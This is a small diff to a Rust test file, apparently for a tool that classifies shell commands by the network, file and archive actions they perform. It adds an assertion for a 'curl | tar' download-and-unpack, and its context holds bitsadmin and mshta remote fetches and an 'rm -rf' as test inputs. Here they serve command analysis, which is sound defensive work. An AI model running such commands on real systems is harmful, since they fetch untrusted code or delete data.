@@ -42,6 +42,10 @@ fn commands_do_things() {
         acts("bitsadmin /transfer j https://a.invalid/x c:\\x.exe"),
         ["network.http https://a.invalid/x", "fs.write c:/x.exe"]
     );
+    assert_eq!(
+        acts("curl -s https://a.invalid/x | tar xz -C /tmp/x"),
+        ["network.http https://a.invalid/x", "archive.unpack /tmp/x"]
+    );
     assert_eq!(acts("shx rm -rf dist"), ["fs.delete <package>/dist"]);
     assert_eq!(
         acts("mshta https://a.invalid/x"),
